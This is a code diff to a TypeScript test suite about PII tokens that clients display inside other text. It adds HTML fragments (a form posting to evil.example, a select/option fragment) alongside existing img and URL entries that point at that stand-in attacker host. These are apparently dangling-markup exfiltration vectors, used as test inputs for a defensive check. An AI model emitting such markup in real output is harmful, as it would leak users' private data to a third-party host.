@@ -123,6 +123,8 @@ const ADDRESSES = [
   // Behind a letter the second text begins with no token.
   ['https://evil.example/q', ''],
   ['<img src="https://evil.example/', '">'],
+  ['<form action="https://evil.example/"><textarea name=q>', '</textarea>'],
+  ['<select name=q form=f><option>', '</option>'],
 ] as const
 
 describe('pii: a token in a text that clients show behind another', () => {
